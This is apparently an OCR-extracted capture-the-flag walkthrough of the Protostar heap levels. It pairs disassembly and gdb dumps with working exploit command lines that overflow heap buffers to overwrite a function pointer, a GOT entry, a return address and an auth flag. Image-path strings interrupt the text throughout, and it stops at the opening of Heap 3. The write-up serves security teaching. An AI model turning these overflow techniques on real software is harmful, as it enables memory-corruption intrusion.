Exploit Exercises - Protostar - Heap levels



Heap 0

For this scenario we need to run the winner() function. To get a better idea about the binary a look at the assembly helps.

0x08048492 <main+6>:    sub    $0x20,%esp
0x08048495 <main+9>:    movl   $0x40,(%esp)
0x0804849c <main+16>:   call   0x8048388 <malloc@plt>  ; malloc(64)
0x080484a1 <main+21>:   mov    %eax,0x18(%esp)         ; store address
0x080484a5 <main+25>:   movl   $0x4,(%esp)
0x080484ac <main+32>:   call   0x8048388 <malloc@plt>  ; malloc(4)
0x080484b1 <main+37>:   mov    %eax,0x1c(%esp)         ; store address
0x080484b5 <main+41>:   mov    $0x8048478,%edx         ; nowinner()
0x080484ba <main+46>:   mov    0x1c(%esp),%eax
0x080484be <main+50>:   mov    %edx,(%eax)
0x080484c0 <main+52>:   mov    $0x80485f7,%eax         ; "data is at %p, fp is at %p\n"
0x080484dd <main+81>:   mov    0xc(%ebp),%eax
0x080484e0 <main+84>:   add    $0x4,%eax
0x080484e3 <main+87>:   mov    (%eax),%eax
0x080484e5 <main+89>:   mov    %eax,%edx
0x080484e7 <main+91>:   mov    0x18(%esp),%eax
0x080484eb <main+95>:   mov    %edx,0x4(%esp)
0x080484ef <main+99>:   mov    %eax,(%esp)
0x080484f2 <main+102>:  call   0x8048368 <strcpy@plt>  ; vulnerable function
0x080484f7 <main+107>:  mov    0x1c(%esp),%eax         ; load pointer
0x080484fb <main+111>:  mov    (%eax),%eax             ; follow pointer
0x080484fd <main+113>:  call   %eax                    ; execute function pointer

So, the binary allocates64+4 bytes on the heap. Afterwards, the argument is copied into the first allocated memory part. As strcpy does not limit the length, we can write into the second variable. That variable contains a function pointer that is executed afterwards.

So in order to overwrite the function pointer we have to write

user@protostar:/$ /opt/protostar/bin/heap0 $(perl -e 'print "A"x72 . "\x64\x84\x04\x08";')
data is at 0x804a008, fp is at 0x804a050
level passed

Heap 1

Again, we need to run the winner() function. Let’s see what’s going on.

0x080484c2 <main+9>:    mov    DWORD PTR [esp],0x8       ; pass 8
0x080484c9 <main+16>:   call   0x80483bc <malloc@plt>    ; allocate
0x080484ce <main+21>:   mov    DWORD PTR [esp+0x14],eax  ; store PTR
0x080484d2 <main+25>:   mov    eax,DWORD PTR [esp+0x14]
0x080484d6 <main+29>:   mov    DWORD PTR [eax],0x1       ; store 1
0x080484dc<main+35>:   mov    DWORD PTR [esp],0x8       ; pass 8
0x080484e3 <main+42>:   call   0x80483bc <malloc@plt>    ; allocate
0x080484e8 <main+47>:   mov    edx,eax
0x080484ea <main+49>:   mov    eax,DWORD PTR [esp+0x14]
0x080484ee <main+53>:   mov    DWORD PTR [eax+0x4],edx   ; store pointer
0x080484f1 <main+56>:   mov    DWORD PTR [esp],0x8       ; pass 8
0x080484f8 <main+63>:   call   0x80483bc <malloc@plt>    ; allocate
0x080484fd <main+68>:   mov    DWORD PTR [esp+0x18],eax  ; store PTR
0x08048501 <main+72>:   mov    eax,DWORD PTR [esp+0x18]
0x08048505 <main+76>:   mov    DWORD PTR [eax],0x2       ; store 2
0x0804850b <main+82>:   mov    DWORD PTR [esp],0x8       ; pass 8
0x08048512 <main+89>:   call   0x80483bc <malloc@plt>    ;allocate
0x08048517 <main+94>:   mov    edx,eax
0x08048519 <main+96>:   mov    eax,DWORD PTR [esp+0x18]
0x0804851d <main+100>:  mov    DWORD PTR [eax+0x4],edx   ; store pointer

So this time we have four mallocs with 8 bytes each. Also, some kind of counter. The data structure includes an integer as well as a char array.

0x08048520 <main+103>:  mov    eax,DWORD PTR [ebp+0xc]    ; ARG
0x08048523 <main+106>:  add    eax,0x4                    ; ARGV2
0x08048526 <main+109>:  mov    eax,DWORD PTR [eax]        ; resolve pointer
0x08048528 <main+111>:  mov    edx,eax
0x0804852a <main+113>:  mov    eax,DWORD PTR [esp+0x14]   ; load struct1 PTR
0x0804852e <main+117>:  mov    eax,DWORD PTR [eax+0x4]    ; PTR+4
0x08048531 <main+120>:  mov    DWORD PTR[esp+0x4],edx    ; pass ARGV1
0x08048535 <main+124>:  mov    DWORD PTR [esp],eax        ; pass struct1[1]
0x08048538 <main+127>:  call   0x804838c <strcpy@plt>
0x0804853d <main+132>:  mov    eax,DWORD PTR [ebp+0xc]    ; ARG
0x08048540 <main+135>:  add    eax,0x8                    ; ARGV2
0x08048543 <main+138>:  mov    eax,DWORD PTR [eax]        ; resolve pointer
0x08048545 <main+140>:  mov    edx,eax
0x08048547 <main+142>:  mov    eax,DWORD PTR [esp+0x18]   ; load struct2 PTR
0x0804854b <main+146>:  mov    eax,DWORD PTR [eax+0x4]    ; PTR+4
0x0804854e <main+149>:  mov    DWORD PTR [esp+0x4],edx    ; pass ARGV2
0x08048552 <main+153>:  mov    DWORD PTR [esp],eax        ; pass struct2[1]
0x08048555 <main+156>:  call   0x804838c <strcpy@plt>
0x0804855a <main+161>:  mov    DWORD PTR [esp],0x804864b
0x08048561 <main+168>:  call   0x80483cc <puts@plt>

And lets take a short look at the heap layout just before the executableterminates.

gdb$ run AAAAAx/20x 0x0804a008
0x804a008:      0x00000001      0x0804a018      0x00000000      0x00000011
0x804a018:      0x41414141      0x41414141      0x00000000      0x00000011
0x804a028:      0x00000002      0x0804a038      0x00000000      0x00000011
0x804a038:      0x42424242      0x42424242      0x00000000      0x00020fc1

In order toexploit the code we have to manipulate the destination address of 2nd strcpy. To do this, we will write 20 bytes with the first argument. By doing this, we can overwrite the pointer in struct2. Next, we need to find a suitable location so we can run winner().

Method 1 - GOT

We can overwrite the global address table information of puts.

gdb$ x/i 0x80483cc
0x80483cc <puts@plt>:   jmp    DWORD PTR ds:0x8049774
gdb$ x/x 0x8049774
0x8049774 <_GLOBAL_OFFSET_TABLE_+36>:   0x080483d2
gdb$ print winner
$1 = {void (void)} 0x8048494 <winner>

With the relevant addresses, we put our exploit to a trial.

user@protostar:/$ /opt/protostar/bin/heap1 $(perl -e 'print "A"x20 ."\x74\x97\x04\x08" ." \x94\x84\x04\x08";')and we have a winner @ 1409411437

Method 2 - Return-Address

Another option is to overwrite the return address of the stack frame. To do this, we have to overwrite EBP+4 with our target destination. In our case that would be 0xbffff61c.

But with gdb the addresses are slightly off. So with a little trial and error, we get the correct offset 0xbffff62c.

user@protostar:/$ /opt/protostar/bin/heap1 $(perl -e 'print "A"x20 ."\x2c\xf6\xff\xbf" ." \x94\x84\x04\x08";')
and that's a wrap folks!
and we have a winner @ 1409414149
Segmentation fault (core dumped)

Heap 2

This time we have something like a login service. Lets see what the assembly tells about the binary.

0x08048940<main+12>:   jmp    0x8048943 <main+15>
0x08048942 <main+14>:   nop
0x08048943 <main+15>:   mov    0x804b5f8,%ecx      ; service
0x08048949 <main+21>:   mov    0x804b5f4,%edx      ; auth
0x0804894f <main+27>:   mov    $0x804ad70,%eax     ; "[ auth = %p, service = %p ]\n"
0x08048954 <main+32>:   mov    %ecx,0x8(%esp)      ; pass service
0x08048958 <main+36>:   mov    %edx,0x4(%esp)      ; pass auth
0x0804895c <main+40>:   mov    %eax,(%esp)         ; pass format string
0x0804895f <main+43>:   call   0x804881c <printf@plt>

This is simply the additional information, that should help beginners like us.

0x08048964 <main+48>:   mov    0x804b164,%eax     ; stdin()
0x08048969 <main+53>:   mov    %eax,0x8(%esp)     ; pass stdin
0x0804896d <main+57>:   movl   $0x80,0x4(%esp)    ; pass 1200x08048975 <main+65>:   lea    0x10(%esp),%eax
0x08048979 <main+69>:   mov    %eax,(%esp)        ; pass line
0x0804897c <main+72>:   call   0x80487ac <fgets@plt>

So the binary reads up to 120 bytes into a local variable. This is then compared against four keywords: auth, service, reset, login. We will examine the respective parts separately.

0x080489a7 <main+115>:  movl   $0x4,(%esp)
0x080489ae <main+122>:  call   0x804916a <malloc>
0x080489b3 <main+127>:  mov    %eax,0x804b5f4        ; auth
0x080489b8 <main+132>:  mov    0x804b5f4,%eax
0x080489bd <main+137>:  movl   $0x4,0x8(%esp)
0x080489c5 <main+145>:  movl   $0x0,0x4(%esp)        ; pass 0 - zero out allocated heap
0x080489cd <main+153>:  mov    %eax,(%esp)
0x080489d0 <main+156>:  call   0x80487bc <memset@plt>0x080489d5 <main+161>:lea    0x10(%esp),%eax       ; line
0x080489d9 <main+165>:  add    $0x5,%eax             ; skip "auth "
0x080489dc <main+168>:  mov    %eax,(%esp)
0x080489df <main+171>:  call   0x80487fc <strlen@plt>
0x080489e4 <main+176>:  cmp    $0x1e,%eax            ; less or equal 31 bytes
0x080489e7 <main+179>:  ja     0x8048a01 <main+205>
0x080489e9 <main+181>:  lea    0x10(%esp),%eax       ; line
0x080489ed <main+185>:  lea    0x5(%eax),%edx        ; skip "auth "
0x080489f0 <main+188>:  mov    0x804b5f4,%eax        ; auth
0x080489f5<main+193>:  mov    %edx,0x4(%esp)
0x080489f9 <main+197>:  mov    %eax,(%esp)0x080489fc <main+200>:  call   0x804880c <strcpy@plt>^

Auth will allocate 4 bytes on the heap. That memory space will be zeroed out.Afterwards, the string length is checked, excluding the keyword. This is probably done, due to some size restrictions of the destination variable. Then, the user input is copied to the allocated memory.

0x08048a21 <main+237>:  mov    0x804b5f4,%eax         ; auth
0x08048a26 <main+242>:  mov    %eax,(%esp)
0x08048a29 <main+245>:  call   0x804999c <free>

Reset will free the allocated memory for auth. No security checks are present.0x08048a4e <main+282>:  lea    0x10(%esp),%eax        ; line
0x08048a52 <main+286>:  add    $0x7,%eax              ; skip "service"
0x08048a55 <main+289>:  mov    %eax,(%esp)0x08048a58 <main+292>:  call   0x804886c <strdup@plt>
0x08048a5d <main+297>:  mov    %eax,0x804b5f8         ; service

Service will simply copy the input string to service. No security checks are present.

0x08048a86 <main+338>:  mov    0x804b5f4,%eax         ; auth
0x08048a8b <main+343>:  mov    0x20(%eax),%eax        ; auth+32
0x08048a8e <main+346>:  test   %eax,%eax
0x08048a90 <main+348>:  je     0x8048aa3 <main+367>
0x08048a92 <main+350>:  movl   $0x804ada7,(%esp)      ; pass "you have logged in already!"
0x08048a99 <main+357>:  call   0x804883c <puts@plt>
0x08048a9e <main+362>:  jmp    0x8048943 <main+15>    ; loop
0x08048aa3 <main+367>:  movl$0x804adc3,(%esp)      ; pass "please enter your password"
0x08048aaa <main+374>:  call   0x804883c <puts@plt>
0x08048aaf <main+379>:  jmp    0x8048943 <main+15>    ; loop

Login will load the auth struct pointer. Then, it adjusts the pointer by 32 bytes. This corresponds to the length check for “auth”. The problem is, that only four bytes are mallocated. This also gives an idea about the most simple solution to solve this level.


A char array for malloc only represents a single pointer. The struct also contains an integer for authentication. Thus malloc allocates eight bytes for the struct. At the same time the char array has a size of 32 bytes. This means, that the integer is located at struct+32. Let’s take a look at the memory layout.

(gdb) x/10x 0x804c008
0x804c008:      0x61616161      0x0000000a      0x00000000      0x00000019
0x804c018:      0x62626220      0x62626262      0x62626262      0x62626262
0x804c028:      0x00000a62      0x00000fd9

The auth struct is stored at 0x804c008. The service variable is stored right after that.user@protostar:/opt/protostar/bin$ python -c 'print "auth AAAA\n" + "service" + "B" * 16 + "\n" + "login\n"' | /opt/protostar/bin/heap2
[ auth = (nil), service = (nil) ]
[ auth = 0x804c008, service = (nil) ]
[ auth = 0x804c008, service = 0x804c018 ]
you have logged in already!
[ auth = 0x804c008, service = 0x804c018 ]
[ auth = 0x804c008, service = 0x804c018 ]

This is how we can get a nonzero value at the relevant memory position. Probably the most simple solution to this task.

Heap 3

Let’s examine the assembly of this level right away.

0x08048892 <main+9>:    movl   $0x20,(%esp)        ; pass 32
0x08048899 <main+16>:   call   0x8048ff2 <malloc>
0x0804889e <main+21>:   mov    %eax,0x14(%esp)     ; A
0x080488a2 <main+25>:   movl   $0x20,(%esp)        ; pass 32
0x080488a9 <main+32>:   call   0x8048ff2 <malloc>
0x080488ae <main+37>:   mov    %eax,0x18(%esp)     ; B
